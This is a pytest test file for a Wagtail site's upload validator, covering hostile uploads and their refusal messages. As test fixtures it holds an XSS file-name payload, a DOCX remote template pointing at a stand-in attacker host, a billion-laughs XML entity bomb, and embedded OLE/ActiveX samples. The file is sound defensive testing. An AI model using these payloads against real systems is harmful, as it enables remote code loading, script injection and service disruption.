"""The one upload check, and every admin route that must apply it.

Hostile files: an SVG with script, HTML renamed .pdf, a PNG renamed .docx, a zip that is
not Office renamed .docx, an oversized file and an empty one. Each must be refused with a
message that names the file and says what to do, by check_upload itself, by Wagtail's
document and image forms, and by the multiple uploaders (which answer in JSON).
"""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.urls import reverse
from wagtail.documents import get_document_model
from wagtail.images import get_image_model

from library.uploads import check_upload
from tests.factories.accounts import PASSWORD

from .sample_files import (
    HTML_PAGE,
    SVG_WITH_SCRIPT,
    hostile_uploads,
    image_bytes,
    m4a_bytes,
    mp3_bytes,
    ooxml_bytes,
    pdf_bytes,
    plain_zip_bytes,
    upload,
)

LIMIT = 200_000

# What each refusal must say, in words a teacher can act on.
EXPECTED_MESSAGE = {
    "svg with script": "SVG files can carry scripts",
    "html renamed pdf": "it is not a real PDF file",
    "png renamed docx": "it is not a real DOCX file",
    "zip renamed docx": "it is not a real DOCX file",
    "oversized pdf": "the largest file Kyozai accepts is",
    "empty pdf": "is empty",
}
HOSTILE_FOR_DOCUMENTS = list(EXPECTED_MESSAGE)


@pytest.fixture
def small_limit(settings):
    settings.KYOZAI_MAX_UPLOAD_BYTES = LIMIT
    return LIMIT


def _refusal(uploaded_file, **kwargs) -> ValidationError:
    with pytest.raises(ValidationError) as caught:
        check_upload(uploaded_file, **kwargs)
    return caught.value


# --- check_upload itself ----------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "kind"),
    [
        ("worksheet.pdf", pdf_bytes(), "document"),
        ("worksheet.docx", ooxml_bytes("docx"), "document"),
        ("slides.pptx", ooxml_bytes("pptx"), "document"),
        ("scores.xlsx", ooxml_bytes("xlsx"), "document"),
        ("card.png", image_bytes("PNG"), "image"),
        ("photo.jpg", image_bytes("JPEG"), "image"),
        ("photo.JPEG", image_bytes("JPEG"), "image"),
        ("anim.gif", image_bytes("GIF"), "image"),
        ("chant.mp3", mp3_bytes(), "audio"),
        ("dialogue.m4a", m4a_bytes(), "audio"),
    ],
)
def test_real_files_on_the_allow_list_are_accepted(name, content, kind, small_limit):
    assert check_upload(upload(name, content)).kind == kind


@pytest.mark.parametrize("what", HOSTILE_FOR_DOCUMENTS)
def test_hostile_files_are_refused_with_a_clear_message(what, small_limit):
    uploaded = hostile_uploads(LIMIT)[what]
    error = _refusal(uploaded)
    message = error.messages[0]
    assert EXPECTED_MESSAGE[what] in message
    assert uploaded.name in message


def test_the_size_limit_follows_the_setting(settings):
    settings.KYOZAI_MAX_UPLOAD_BYTES = 10 * 1024 * 1024
    content = b"%PDF-1.4\n" + b"0" * (11 * 1024 * 1024)
    assert _refusal(upload("big.pdf", content)).code == "too_large"
    settings.KYOZAI_MAX_UPLOAD_BYTES = 12 * 1024 * 1024
    assert check_upload(upload("big.pdf", content)).extension == "pdf"


def test_html_is_refused_by_name_even_when_it_claims_to_be_a_page(small_limit):
    error = _refusal(upload("lesson.html", HTML_PAGE, "text/html"))
    assert error.code == "refused_type"
    assert "HTML files can carry scripts" in error.messages[0]


def test_unknown_types_list_what_is_allowed(small_limit):
    error = _refusal(upload("notes.txt", b"hello"))
    assert error.code == "unsupported_type"
    assert "PDF, DOCX" in error.messages[0]


def test_a_route_can_narrow_the_allow_list(small_limit):
    error = _refusal(upload("worksheet.pdf", pdf_bytes()), allowed_kinds=("image",))
    assert error.code == "unsupported_type"
    assert "PNG" in error.messages[0]
    assert "DOCX" not in error.messages[0]


def test_a_file_without_an_extension_is_refused(small_limit):
    assert _refusal(upload("worksheet", pdf_bytes())).code == "unsupported_type"


def test_word_file_with_macros_is_refused(small_limit):
    error = _refusal(upload("game.docx", ooxml_bytes("docx", macros=True)))
    assert error.code == "macros"


def test_a_pptx_must_hold_slides_not_a_word_document(small_limit):
    assert _refusal(upload("slides.pptx", ooxml_bytes("docx"))).code == "content_mismatch"


def test_a_truncated_png_is_refused_as_damaged(small_limit):
    content = image_bytes("PNG")
    error = _refusal(upload("card.png", content[: len(content) // 2]))
    assert error.code == "broken_image"


def test_a_picture_with_too_many_pixels_is_refused(small_limit, settings):
    settings.KYOZAI_MAX_UPLOAD_BYTES = 20 * 1024 * 1024
    content = image_bytes("PNG", size=(8000, 7000), colour="white")
    assert _refusal(upload("huge.png", content)).code == "too_many_pixels"


def test_a_hostile_file_name_cannot_inject_markup(small_limit):
    error = _refusal(upload('<img src=x onerror="alert(1)">.svg', SVG_WITH_SCRIPT))
    assert "<" not in error.messages[0]
    assert ">" not in error.messages[0]


def test_the_check_leaves_the_file_ready_to_save(small_limit):
    uploaded = upload("worksheet.docx", ooxml_bytes("docx"))
    uploaded.seek(0)
    check_upload(uploaded)
    assert uploaded.tell() == 0
    assert uploaded.read(2) == b"PK"


def test_a_plain_zip_is_not_an_office_file(small_limit):
    assert _refusal(upload("data.xlsx", plain_zip_bytes())).code == "content_mismatch"


# --- the Wagtail admin forms ------------------------------------------------------------


@pytest.fixture
def editor_client(client, editor):
    assert client.login(username=editor.username, password=PASSWORD)
    return client


@pytest.mark.parametrize("what", HOSTILE_FOR_DOCUMENTS)
def test_admin_document_upload_refuses_hostile_files(what, editor_client, small_limit):
    uploaded = hostile_uploads(LIMIT)[what]
    response = editor_client.post(
        reverse("wagtaildocs:add"), {"title": "Worksheet", "file": uploaded}
    )
    assert response.status_code == 200  # the form again, not a redirect
    content = response.content.decode()
    assert EXPECTED_MESSAGE[what] in content
    assert "File extension" not in content  # one clear refusal, not two
    assert not get_document_model().objects.exists()


@pytest.mark.parametrize("what", HOSTILE_FOR_DOCUMENTS)
def test_admin_multiple_document_upload_refuses_hostile_files(what, editor_client, small_limit):
    uploaded = hostile_uploads(LIMIT)[what]
    response = editor_client.post(reverse("wagtaildocs:add_multiple"), {"files[]": uploaded})
    data = response.json()
    assert data["success"] is False
    assert EXPECTED_MESSAGE[what] in data["error_message"]
    assert not get_document_model().objects.exists()


def test_admin_document_upload_takes_a_real_pdf_and_audio(editor_client, small_limit):
    for name, content in [("worksheet.pdf", pdf_bytes()), ("chant.mp3", mp3_bytes())]:
        response = editor_client.post(
            reverse("wagtaildocs:add"), {"title": name, "file": upload(name, content)}
        )
        assert response.status_code == 302, response.content.decode()[:2000]
    assert get_document_model().objects.count() == 2


def test_admin_document_replace_file_is_checked_too(editor_client, small_limit):
    editor_client.post(
        reverse("wagtaildocs:add"),
        {"title": "Worksheet", "file": upload("worksheet.pdf", pdf_bytes())},
    )
    document = get_document_model().objects.get()
    response = editor_client.post(
        reverse("wagtaildocs:edit", args=[document.pk]),
        {"title": "Worksheet", "file": upload("worksheet.pdf", HTML_PAGE)},
    )
    assert "it is not a real PDF file" in response.content.decode()
    document.refresh_from_db()
    assert document.file.name.endswith(".pdf")
    with document.open_file() as stored:
        assert stored.read(5) == b"%PDF-"


def image_hostile() -> dict:
    return {
        "svg with script": (upload("card.svg", SVG_WITH_SCRIPT), "SVG files can carry scripts"),
        "html renamed png": (upload("card.png", HTML_PAGE), "it is not a real PNG file"),
        "pdf renamed jpg": (upload("card.jpg", pdf_bytes()), "it is not a real JPG file"),
        "empty png": (upload("card.png", b""), "is empty"),
        "oversized png": (
            upload("card.png", image_bytes("PNG", size=(1200, 1200)) + b"\0" * LIMIT),
            "the largest file Kyozai accepts is",
        ),
    }


IMAGE_HOSTILE_NAMES = [
    "svg with script",
    "html renamed png",
    "pdf renamed jpg",
    "empty png",
    "oversized png",
]


@pytest.mark.parametrize("what", IMAGE_HOSTILE_NAMES)
def test_admin_image_upload_refuses_hostile_files(what, editor_client, small_limit):
    uploaded, expected = image_hostile()[what]
    response = editor_client.post(reverse("wagtailimages:add"), {"title": "Card", "file": uploaded})
    assert response.status_code == 200
    assert expected in response.content.decode()
    assert not get_image_model().objects.exists()


@pytest.mark.parametrize("what", IMAGE_HOSTILE_NAMES)
def test_admin_multiple_image_upload_refuses_hostile_files(what, editor_client, small_limit):
    uploaded, expected = image_hostile()[what]
    response = editor_client.post(reverse("wagtailimages:add_multiple"), {"files[]": uploaded})
    data = response.json()
    assert data["success"] is False
    assert expected in data["error_message"]
    assert not get_image_model().objects.exists()


def test_admin_image_upload_takes_a_real_png(editor_client, small_limit):
    response = editor_client.post(
        reverse("wagtailimages:add"),
        {"title": "Card", "file": upload("card.png", image_bytes("PNG"))},
    )
    assert response.status_code == 302
    assert get_image_model().objects.get().width == 640


def test_admin_document_form_says_the_size_limit(editor_client, small_limit):
    response = editor_client.get(reverse("wagtaildocs:add"))
    assert response.status_code == 200
    # Wagtail prints WAGTAILDOCS_MAX_UPLOAD_SIZE, which is set from the same setting.
    assert "Maximum filesize" in response.content.decode()


@pytest.mark.parametrize(
    "url_name",
    [
        "wagtaildocs:add",
        "wagtaildocs:add_multiple",
        "wagtailimages:add",
        "wagtailimages:add_multiple",
    ],
)
def test_admin_upload_pages_still_open(url_name, editor_client):
    response = editor_client.get(reverse(url_name))
    assert response.status_code == 200
    assert "20.0" in response.content.decode()  # the limit, in MB, from the one setting


# --- Office files that reach out or carry programs (library/uploads.py) -----------------

RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOC_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def relationships(*entries: tuple[str, str, str]) -> str:
    """A relationships part: (type, target, target mode) for each relationship."""
    body = "".join(
        f'<Relationship Id="rId{number}" Type="{DOC_RELS}/{kind}" Target="{target}"'
        + (f' TargetMode="{mode}"' if mode else "")
        + "/>"
        for number, (kind, target, mode) in enumerate(entries, start=1)
    )
    header = '<?xml version="1.0" encoding="UTF-8"?>'
    return f'{header}<Relationships xmlns="{RELS}">{body}</Relationships>'


def office_file(kind: str, parts: dict[str, str | bytes]) -> bytes:
    """A real Office zip (as sample_files makes it) with `parts` added."""
    buffer = io.BytesIO(ooxml_bytes(kind))
    with zipfile.ZipFile(buffer, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


REMOTE_TEMPLATE = {
    "word/_rels/settings.xml.rels": relationships(
        ("attachedTemplate", "https://attacker.example/template.dotm", "External")
    )
}


def test_a_docx_pointing_at_a_remote_template_is_refused(small_limit):
    error = _refusal(upload("lesson.docx", office_file("docx", REMOTE_TEMPLATE)))
    assert error.code == "external_link"
    assert "lesson.docx loads something from outside the file" in error.messages[0]


OLE_PARTS = {
    "docx": ("word", "document.xml"),
    "pptx": ("ppt", "slides/slide1.xml"),
    "xlsx": ("xl", "worksheets/sheet1.xml"),
}


@pytest.mark.parametrize("kind", OLE_PARTS)
def test_an_embedded_ole_object_is_refused_in_every_office_format(kind, small_limit):
    folder, part = OLE_PARTS[kind]
    rels_name = f"{folder}/{part.rpartition('/')[0]}/_rels/{part.rpartition('/')[2]}.rels"
    ole = office_file(
        kind,
        {
            rels_name.replace("//", "/"): relationships(
                ("oleObject", "../embeddings/oleObject1.bin", "")
            ),
            f"{folder}/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 64,
        },
    )
    error = _refusal(upload(f"game.{kind}", ole))
    assert error.code == "embedded_object"
    assert "OLE or ActiveX" in error.messages[0]


@pytest.mark.parametrize(
    "parts",
    [
        {"word/embeddings/oleObject7.bin": b"\xd0\xcf\x11\xe0"},  # the part, unreferenced
        {"word/_rels/document.xml.rels": relationships(("oleObject", "x.bin", ""))},
        {"word/activeX/activeX1.bin": b"\xd0\xcf\x11\xe0"},
        {"word/_rels/document.xml.rels": relationships(("control", "a.xml", ""))},
    ],
    ids=["ole part", "ole relationship", "activex part", "activex relationship"],
)
def test_embedded_programs_are_refused_by_part_or_by_relationship(parts, small_limit):
    if "control" in str(parts):
        # ActiveX: the control's own part points at its binary.
        parts = {
            **parts,
            "word/activeX/_rels/activeX1.xml.rels": relationships(
                ("activeXControlBinary", "activeX1.bin", "")
            ),
        }
    assert _refusal(upload("game.docx", office_file("docx", parts))).code == "embedded_object"


@pytest.mark.parametrize(
    ("kind", "rels_name", "relationship"),
    [
        (
            "pptx",
            "ppt/slides/_rels/slide1.xml.rels",
            ("image", "https://x.example/p.png", "External"),
        ),
        (
            "xlsx",
            "xl/externalLinks/_rels/externalLink1.xml.rels",
            ("externalLinkPath", "file:///C:/marks.xlsx", "External"),
        ),
        (
            "docx",
            "word/_rels/document.xml.rels",
            ("subDocument", "\\\\server\\share\\a.docx", "External"),
        ),
        (
            "docx",
            "word/_rels/webSettings.xml.rels",
            ("frame", "https://x.example/frame", "External"),
        ),
    ],
    ids=["external picture", "external data source", "external subdocument", "external frame"],
)
def test_any_external_target_but_a_text_link_is_refused(kind, rels_name, relationship, small_limit):
    crafted = office_file(kind, {rels_name: relationships(relationship)})
    assert _refusal(upload(f"lesson.{kind}", crafted)).code == "external_link"


def test_links_in_the_text_and_an_embedded_chart_workbook_are_fine(small_limit):
    """A worksheet linking to a song's video and a Word chart (which carries its data as
    an embedded .xlsx) are ordinary teaching files."""
    ordinary = office_file(
        "docx",
        {
            "word/_rels/document.xml.rels": relationships(
                ("hyperlink", "https://www.youtube.com/watch?v=abc", "External"),
                ("chart", "charts/chart1.xml", ""),
            ),
            "word/charts/_rels/chart1.xml.rels": relationships(
                ("package", "../embeddings/Microsoft_Excel_Worksheet.xlsx", "")
            ),
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": ooxml_bytes("xlsx"),
        },
    )
    assert check_upload(upload("weather-song.docx", ordinary)).kind == "document"


def test_a_relationships_part_with_entity_tricks_is_refused_unread(small_limit):
    laughs = (
        '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
        f'<Relationships xmlns="{RELS}"><Relationship Id="r" Type="&b;" Target="x"/>'
        "</Relationships>"
    )
    crafted = office_file("docx", {"word/_rels/document.xml.rels": laughs})
    assert _refusal(upload("lesson.docx", crafted)).code == "unreadable_office"


def test_the_admin_refuses_a_remote_template_too(editor_client, small_limit):
    response = editor_client.post(
        reverse("wagtaildocs:add_multiple"),
        {"files[]": upload("lesson.docx", office_file("docx", REMOTE_TEMPLATE))},
    )
    assert response.json()["success"] is False
    assert "loads something from outside the file" in response.json()["error_message"]
    assert not get_document_model().objects.exists()


def test_file_extensions_are_listed_once():
    """The material page's file icons and every upload route read the one allow list."""
    from django.conf import settings

    from library.models.pages import FILE_KINDS
    from library.uploads import ALLOWED

    assert set(FILE_KINDS) == set(ALLOWED)
    assert set(settings.WAGTAILDOCS_EXTENSIONS) | set(settings.WAGTAILIMAGES_EXTENSIONS) == set(
        ALLOWED
    )
